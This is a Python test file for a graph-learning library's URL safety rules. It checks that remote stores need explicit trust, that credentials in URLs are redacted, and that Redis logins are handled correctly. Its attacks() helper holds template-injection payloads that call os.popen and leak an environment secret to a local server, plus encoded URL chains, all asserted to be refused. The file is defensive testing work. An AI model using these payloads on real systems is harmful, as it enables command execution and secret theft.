"""URLs in folders from others, and logins in URLs: what is refused, what is asked for, what is never shown."""

from __future__ import annotations

import base64
import json
import os
import pickle
import re
import shutil
import socket
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

import largegt as library
from bucket_helpers import forget_connections
from largegt.data.files import RemoteFile, expand, facts_of
from largegt.data.store import GraphStore
from largegt.errors import ConfigError, InputError, LargeGTError
from largegt.io import remote, urls
from largegt.preprocessing.sampling.redis_lists import RedisLists, load_lists, split_login
from largegt.training.trainer import train
from run_helpers import easy_store, one_thread, refusal, small  # noqa: F401

PASSWORD = "hunter2"


class WebServer:
    """Answers every request with one status and body, and keeps the requests."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self.status, self.body = 404, b""
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.requests.append(f"{self.command} {self.path} {self.headers.get('Authorization', '')}")
                self.send_response(outer.status)
                self.send_header("Content-Length", str(len(outer.body)))
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(outer.body)

            do_HEAD = do_PUT = do_POST = do_GET

            def log_message(self, *_: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.place = f"127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def web() -> Iterator[WebServer]:
    made = WebServer()
    yield made
    made.server.shutdown()
    made.server.server_close()


def forget(monkeypatch: pytest.MonkeyPatch) -> None:
    """As in a new process."""
    monkeypatch.setattr(urls, "_given", set())


@pytest.fixture(scope="module")
def trained(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("trained")
    return train(easy_store(folder / "g"), small("train.epochs=1"), folder / "run").path


def with_store(run: Path, out: Path, url: str, absolute: str | None = None) -> Path:
    """A copy of a run that names another store."""
    shutil.copytree(run, out, dirs_exist_ok=True)
    text = (out / "config.toml").read_text()
    text, count = re.subn(r"^store = .*$", lambda _: f"store = {json.dumps(url)}", text, count=1, flags=re.M)
    assert count == 1
    if absolute is not None:
        text = re.sub(r"^absolute = .*$", lambda _: f"absolute = {json.dumps(absolute)}", text, count=1, flags=re.M)
    (out / "config.toml").write_text(text)
    return out


# which URLs are opened


def reference(refs: dict[str, Any]) -> str:
    """A chain that carries its own table of references, and reads manifest.json by it. What is appended to the URL
    is behind the end of the base64 text, and ignored."""
    text = json.dumps(refs)
    text += " " * (1 - len(text) % 3 if len(text) % 3 < 2 else 2)
    return f"reference://manifest.json::data:;base64,{base64.b64encode(text.encode()).decode()}/g"


def attacks(web: str, marker: Path) -> dict[str, str]:
    """URLs that run a command, send a variable of the environment, or ask a server."""
    shell = "{{ cycler.__init__.__globals__.os.popen('touch " + str(marker) + "').read() }}"
    leak = "{{ cycler.__init__.__globals__.os.environ['SOME_SECRET'] }}"
    entry = {"offset": "0", "length": "9", "dimensions": {"i": [0]}}
    return {
        "shell": reference({"version": 1, "refs": {}, "gen": [{"key": shell, "url": "x", **entry}]}),
        "template": reference({"version": 1, "refs": {}, "templates": {"u": shell}}),
        "leak": reference({"version": 1, "refs": {}, "gen": [{"key": "a", "url": f"http://{web}/{leak}", **entry}]}),
        "reference": reference({"version": 1, "refs": {"manifest.json": [f"http://{web}/x", 0, 9]}}),
        "http": f"http://{web}/x/g",
        "https": f"https://{web}/x/g",
        "zip": f"zip://x/g::http://{web}/a.zip",
        "filecache": f"filecache::http://{web}/x/g",
        "simplecache": f"simplecache://x::http://{web}/x/g",
        "blockcache": f"blockcache://x/y::s3://{web}/x/g",
        "s3 chain": f"s3://bucket/x::http://{web}/g",
        "github": f"github://o:r@{web}/x/g",
        "ftp": f"ftp://{web}/x/g",
        "sftp": f"sftp://{web}/x/g",
        "webhdfs": f"webhdfs://{web}/x/g",
        "memory": "memory://x/g",
        "upper case": f"HTTP://{web}/x/g",
        "upper case s3": "S3://bucket/g",
        "a space": f" http://{web}/x/g",
        "one slash": f"http:/{web}/x/g",
        "other letters": "ｓ3://bucket/g",
        "up": "s3://bucket/x/..",
        "control": "s3://bucket/\x1b[31mg",
        "credentials": f"s3://KEY:{PASSWORD}@bucket/g",
    }


@pytest.mark.parametrize("name", attacks("127.0.0.1:1", Path("x")))
def test_a_url_that_is_refused(
    name: str, trained: Path, tmp_path: Path, web: WebServer, nothing_given: Path, lg: Any, monkeypatch: Any
) -> None:
    monkeypatch.setenv("SOME_SECRET", PASSWORD)
    monkeypatch.setenv("AWS_ENDPOINT_URL", f"http://{web.place}")
    marker = tmp_path / "marker"
    url = attacks(web.place, marker)[name]
    run = with_store(trained, tmp_path / "run", url)
    for verb in (["inspect"], ["inspect", "--verify"], ["evaluate"], ["predict", "--out", tmp_path / "p.csv"]):
        refused = lg(verb[0], run, *verb[1:], "--trust-remote")
        assert refused.code, verb
        if verb == ["inspect", "--verify"]:
            assert refused.out.startswith("damaged: ")
        else:
            assert refused.err.count("\n") == 1, refused
        assert "Traceback" not in refused.err + refused.out
        assert PASSWORD not in refused.err + refused.out
    typed = refusal(lambda: GraphStore.open(url))
    assert "cannot be opened" in typed or "has credentials in it" in typed
    assert PASSWORD not in typed
    assert not marker.exists()
    assert web.requests == []
    assert not (tmp_path / "cache").exists()
    assert not nothing_given.exists()


def test_tables_at_urls_are_held_to_the_same_rules(web: WebServer) -> None:
    for url in (f"zip://e.csv::http://{web.place}/a.zip", f"ftp://{web.place}/e.csv", "memory://x/e.csv"):
        told = refusal(lambda url=url: expand(url))  # type: ignore[misc]
        assert "cannot be opened" in told
    assert "http://, https://" in refusal(lambda: expand("ftp://host/e.csv"))
    assert web.requests == []


def test_a_relative_path_of_a_folder_is_not_taken_for_a_url(
    trained: Path, tmp_path: Path, web: WebServer, nothing_given: Path, monkeypatch: Any, lg: Any
) -> None:
    monkeypatch.setenv("AWS_ENDPOINT_URL", f"http://{web.place}")
    monkeypatch.chdir(tmp_path)
    Path("s3:/bucket/g").mkdir(parents=True)
    run = with_store(trained, tmp_path / "run", "nowhere", absolute="s3://bucket/g")
    assert lg("evaluate", run).code == 2
    assert web.requests == []


@pytest.mark.parametrize("name", [*(f"{scheme}://bucket/some/g" for scheme in urls.STORES), "abfs://box@account.x/a/g"])
def test_a_url_of_a_store(name: str) -> None:
    assert urls.fault(name) is None
    assert urls.redacted(name) == name


# whose URLs are opened


@pytest.fixture
def far_run(server: str, nothing_given: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[str, Path]:
    """A store in a bucket and a run on it, from another machine."""
    url = f"{server}/{tmp_path.name}/g"
    run = train(easy_store(url), small("train.epochs=1"), tmp_path / "run").path  # type: ignore[arg-type]
    shutil.rmtree(nothing_given)
    shutil.rmtree(tmp_path / "cache")
    forget(monkeypatch)
    return url, run


def test_a_url_of_a_folder_needs_trust(
    far_run: Any, nothing_given: Path, web: WebServer, tmp_path: Path, lg: Any, monkeypatch: Any
) -> None:
    url, run = far_run
    verbs = [
        ["evaluate", run], ["inspect", run], ["report", run, "--out", tmp_path / "r.html"],
        ["train", "--resume", "--out", run], ["explain", run, "--node", "1"],
        ["embed", run, "--out", tmp_path / "e.npy"], ["predict", run, "--out", tmp_path / "p.csv"],
    ]  # fmt: skip
    with monkeypatch.context() as patch:
        patch.setenv("AWS_ENDPOINT_URL", f"http://{web.place}")
        forget_connections()
        for verb in verbs:
            refused = lg(*verb)
            assert refused.code == 2
            assert refused.err == (
                f"error: {run} names the store {url}, which was never given on this machine: if you trust this URL, "
                f"run the same command with --trust-remote, or first largegt inspect {url}\n"
            )
        with pytest.raises(InputError, match="was never given on this machine"):
            library.evaluate(run)
        assert web.requests == []
    forget_connections()
    for verb in verbs:
        done = lg(*verb, "--trust-remote")
        assert done.code == 0, done.err
    assert not nothing_given.exists(), "a trust of one command is not remembered"
    assert lg("evaluate", run).code == 2
    monkeypatch.setenv("LARGEGT_TRUST_REMOTE", "1")
    assert 0 <= library.evaluate(run)["accuracy"] <= 1


@pytest.mark.parametrize("below", ["", "/", "/prepared"])
def test_a_url_that_was_given_is_remembered(
    below: str, far_run: Any, nothing_given: Path, lg: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    url, run = far_run
    given = url + below
    if below == "/prepared":
        store = GraphStore.open(url)
        given = f"{url}/prepared/{remote.folders(store.path / 'prepared')[0].name}"
        shutil.rmtree(nothing_given)
        forget(monkeypatch)
    assert lg("inspect", given).code == 0
    forget(monkeypatch)
    assert (nothing_given / "trusted-urls.txt").read_text() == f"{url}\n"
    assert lg("evaluate", run).code == 0
    assert lg("inspect", given).code == 0
    assert os.listdir(nothing_given) == ["trusted-urls.txt"]
    assert lg("inspect", with_store(run, run.with_name("other"), f"{url}2")).code == 2, "another URL"


def test_settings_that_cannot_be_written_are_no_error(
    far_run: Any, nothing_given: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url, run = far_run
    nothing_given.write_text("a file, not a folder")
    GraphStore.open(url)
    assert library.Run.open(run).store().num_nodes == 150, "this process remembers it"
    forget(monkeypatch)
    assert "was never given" in refusal(lambda: library.Run.open(run))


def test_where_settings_are(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("LARGEGT_CONFIG", "XDG_CONFIG_HOME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOME", str(tmp_path))
    for folder in (".config/largegt", "xdg/largegt", "own"):
        forget(monkeypatch)
        urls.remember("s3://bucket/g")
        urls.remember("s3://bucket/h")
        assert (tmp_path / folder / "trusted-urls.txt").read_text() == "s3://bucket/g\ns3://bucket/h\n"
        forget(monkeypatch)
        assert urls.is_trusted("s3://bucket/g")
        assert not urls.is_trusted("s3://bucket/")
        monkeypatch.setenv("LARGEGT_CONFIG" if folder.startswith("xdg") else "XDG_CONFIG_HOME", str(
            tmp_path / ("own" if folder.startswith("xdg") else "xdg")
        ))  # fmt: skip


# logins


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"redis://user:{PASSWORD}@host:1/g", "redis://***@host:1/g"),
        (f"redis://:{PASSWORD}@host/g is up", "redis://***@host/g is up"),
        (f"see 's3://KEY:hun/ter{PASSWORD}@b/g', or not", "see 's3://***@b/g', or not"),
        (f"url=URL('https://u:{PASSWORD}@h/x')", "url=URL('https://***@h/x')"),
        (f"https://{PASSWORD}@host/x", "https://***@host/x"),
        (f"https://h/x?v=3&X-Amz-Signature={PASSWORD}&a=b", "https://h/x?v=3&X-Amz-Signature=***&a=b"),
        (f"redis://h/x?password={PASSWORD}", "redis://h/x?password=***"),
        (f"az://box:{PASSWORD}@account/x", "az://***@account/x"),
        (f"s3:/KEY:{PASSWORD}@bucket/g", "s3:/***@bucket/g"),
        ("s3://bucket/me@home/g", "s3://bucket/me@home/g"),
        ("abfs://box@account.dfs.core.windows.net/x", "abfs://box@account.dfs.core.windows.net/x"),
        ("https://host:80/x?version=3", "https://host:80/x?version=3"),
        ("me@home, a:b@c, C:/x", "me@home, a:b@c, C:/x"),
    ],
)
def test_what_is_shown_of_a_url(text: str, expected: str) -> None:
    assert urls.redacted(text) == expected
    assert str(LargeGTError(text)) == expected
    assert urls.redacted(expected) == expected


def test_redaction_takes_linear_time() -> None:
    start = time.perf_counter()
    urls.redacted("s3://" + "a:@/" * 250_000 + " x" * 250_000 + ":/" * 250_000)
    assert time.perf_counter() - start < 5


@pytest.mark.parametrize(
    ("url", "variable"),
    [
        (f"s3://KEY:{PASSWORD}@bucket/g", "AWS_SECRET_ACCESS_KEY"),
        (f"s3://KEY:hun/ter2{PASSWORD}@bucket/g", "AWS_SECRET_ACCESS_KEY"),
        (f"gs://{PASSWORD}@bucket/g", "GOOGLE_APPLICATION_CREDENTIALS"),
        (f"abfs://box:{PASSWORD}@account/g", "AZURE_STORAGE_ACCOUNT_KEY"),
        (f"az://box/g?sig={PASSWORD}", "AZURE_STORAGE_ACCOUNT_KEY"),
    ],
)
def test_credentials_in_the_url_of_a_store_are_refused(
    url: str, variable: str, trained: Path, tmp_path: Path, nothing_given: Path, lg: Any
) -> None:
    edges = tmp_path / "e.csv"
    edges.write_text("u,v\n0,1\n1,2\n")
    out = tmp_path / "new"
    for command in (
        ["ingest", edges, "--out", url], ["train", url, "--out", out], ["prepare", url], ["inspect", url, "--json"],
        ["tune", url, "--out", out], ["ingest", url + "/e.csv", "--out", tmp_path / "g"], ["append", url],
        ["redis-load", url, "redis://host/g"], ["reproduce", "--dataset", url, "--out", out], ["evaluate", url],
    ):  # fmt: skip
        refused = lg(*command)
        assert refused.code == 2, command
        assert refused.err.count("\n") == 1
        assert PASSWORD not in refused.err + refused.out
        if command[0] in ("ingest", "train", "prepare", "inspect"):
            assert variable in refused.err, command
    kept = [file for folder in (tmp_path, nothing_given) for file in folder.rglob("*")]
    assert not [file for file in kept if PASSWORD in str(file) or (file.is_file() and PASSWORD in file.read_text())]


def test_a_login_of_a_web_server_is_used_and_never_shown(web: WebServer, tmp_path: Path, lg: Any) -> None:
    web.status, web.body = 200, b"u,v\n0,1\n1,2\n"
    url = f"http://me:{PASSWORD}@{web.place}/e.csv"
    done = lg("ingest", url, "--out", tmp_path / "g", "--set", "undirected=true")
    assert done.code == 0, done.err
    sent = "Basic " + base64.b64encode(f"me:{PASSWORD}".encode()).decode()
    assert all(request.endswith(sent) for request in web.requests)
    assert PASSWORD not in done.out + done.err
    assert facts_of(RemoteFile(url))[0] == f"http://***@{web.place}/e.csv"
    for file in (tmp_path / "g").rglob("*"):
        assert PASSWORD.encode() not in file.read_bytes()
    for web.status in (401, 403, 500):
        refused = lg("ingest", url, "--out", tmp_path / "h")
        assert refused.code == 2
        assert refused.err.count("\n") == 1
        assert PASSWORD not in refused.err
        assert ("your credentials are set" in refused.err) == (web.status < 500)


@pytest.mark.parametrize("code", ["AccessDenied", "InvalidAccessKeyId", "SignatureDoesNotMatch", "ExpiredToken"])
def test_a_login_that_a_bucket_refuses_is_not_tried_again(
    code: str, web: WebServer, nothing_given: Path, server: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    web.status = 403
    web.body = f"<?xml version='1.0'?><Error><Code>{code}</Code><Message>{code}, so no</Message></Error>".encode()
    monkeypatch.setenv("AWS_ENDPOINT_URL", f"http://{web.place}")
    forget_connections()
    try:
        told = refusal(lambda: GraphStore.open("s3://bucket/g"))
    finally:
        forget_connections()
    assert "s3://bucket/g/manifest.json cannot be read" in told
    assert "see that your credentials are set" in told
    assert len(web.requests) == 1


# Redis


class FakeRedis:
    """A server that speaks enough of Redis's protocol to ask for a password and to hold keys."""

    null = b"$-1\r\n"

    def __init__(self, login: tuple[str, str] | None) -> None:
        self.login, self.tried, self.keys = login, [], {}  # type: ignore[var-annotated]
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.place = f"127.0.0.1:{self.listener.getsockname()[1]}"
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self._serve, args=(connection,), daemon=True).start()

    def _serve(self, connection: Any) -> None:
        is_in = self.login is None
        with connection, connection.makefile("rb") as lines:
            while line := lines.readline():
                command = []
                for _ in range(int(line[1:])):
                    size = int(lines.readline()[1:])
                    command.append(lines.read(size + 2)[:-2])
                verb = command[0].upper()
                given = command[1:] if verb == b"AUTH" else command[3:] if b"AUTH" in command[:3] else None
                if given:
                    self.tried.append(tuple(word.decode() for word in given[-2:]))
                    is_in = self.login in (self.tried[-1], ("default", *self.tried[-1]))
                connection.sendall(self._answer(verb, command, is_in, bool(given)))

    def _answer(self, verb: bytes, command: list[bytes], is_in: bool, is_login: bool) -> bytes:
        if not is_in:
            return (
                b"-WRONGPASS invalid username-password pair\r\n"
                if is_login
                else b"-NOAUTH Authentication required.\r\n"
            )
        if verb == b"HELLO":
            self.null = b"_\r\n"
            return b"%3\r\n+server\r\n+redis\r\n+version\r\n+7.0.0\r\n+proto\r\n:" + command[1] + b"\r\n"
        if verb in (b"GET", b"GETDEL"):
            value = self.keys.get(command[1])
            return self.null if value is None else b"$%d\r\n%s\r\n" % (len(value), value)
        if verb in (b"SET", b"MSET"):
            self.keys.update(zip(command[1::2], command[2::2], strict=False))
        return b"+OK\r\n"


@pytest.fixture
def fake_redis() -> Iterator[Callable[..., FakeRedis]]:
    pytest.importorskip("redis", reason="the client is not installed: pip install 'largegt[redis]'")
    made: list[FakeRedis] = []

    def make(*login: str) -> FakeRedis:
        made.append(FakeRedis(login or None))  # type: ignore[arg-type]
        return made[-1]

    yield make
    for one in made:
        one.listener.close()


@pytest.fixture(autouse=True)
def no_redis_login(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("REDIS_USERNAME", "REDIS_PASSWORD"):
        monkeypatch.delenv(name, raising=False)


def test_a_login_that_redis_refuses_is_not_tried_again(
    fake_redis: Any, trained: Path, lg: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    server = fake_redis("me", "another")
    store = trained.parent / "g"
    for url in (f"redis://me:{PASSWORD}@{server.place}/g", f"redis://{server.place}/g"):
        server.tried.clear()
        for command in (["redis-load", store, url], ["prepare", store, "--neighbor-store", url, "--set", "seed=9"][:4]):
            refused = lg(*command, *(["--set", "prepare.local_nodes.k=3"] if command[0] == "prepare" else []))
            assert refused.code == 2
            lines = [line for line in refused.err.splitlines() if line.startswith("error: ")]
            assert len(lines) == 1
            assert f"redis://{server.place}/g refuses the login" in lines[0]
            assert "set REDIS_PASSWORD" in lines[0]
            assert PASSWORD not in refused.err + refused.out
            assert "me" not in lines[0].split("refuses")[0]
        assert len(server.tried) <= 2, "once for each command"


@pytest.mark.parametrize("by", ["url", "environment", "both"])
def test_a_login_of_redis_is_used_and_never_shown(
    by: str, fake_redis: Any, trained: Path, lg: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    password = "p%ss/w@rd"
    server = fake_redis("me", password)
    login = "me:p%25ss%2Fw%40rd@" if by == "url" else "me@" if by == "both" else ""
    if by != "url":
        monkeypatch.setenv("REDIS_PASSWORD", password)
    if by == "environment":
        monkeypatch.setenv("REDIS_USERNAME", "me")
    url = f"redis://{login}{server.place}/g"
    for form in ([], ["--json"]):
        done = lg("redis-load", trained.parent / "g", url, *form)
        assert done.code == 0, done.err
        assert f"redis://{server.place}/g" in done.out
        assert not [word for word in ("p%ss", "p%25ss", "me@", "me:") if word in done.out + done.err]
    assert set(server.tried) == {("me", password)}
    lists = load_lists(GraphStore.open(trained.parent / "g"), url)
    assert lists.url == f"redis://{server.place}/g"
    monkeypatch.delenv("REDIS_PASSWORD", raising=False)
    monkeypatch.delenv("REDIS_USERNAME", raising=False)
    again = pickle.loads(pickle.dumps(lists))  # as a worker of a cluster has it, without our environment
    assert again.num_nodes == lists.num_nodes


@pytest.mark.parametrize(
    "url", ["redis://h/g?password=PW", "redis://u:1/PW@h/g", "redis://u:x/PW@h/g", "redis://PW@/g"]
)
def test_a_password_where_it_cannot_be_read_is_refused(url: str) -> None:
    with pytest.raises(ConfigError) as caught:
        split_login(url.replace("PW", PASSWORD))
    assert PASSWORD not in str(caught.value)


def test_a_server_without_a_password_needs_no_login(fake_redis: Any, trained: Path) -> None:
    server = fake_redis()
    store = GraphStore.open(trained.parent / "g")
    load_lists(store, f"redis://{server.place}/g")
    assert RedisLists(f"redis://{server.place}/g").num_nodes == store.num_nodes
    assert server.tried == []
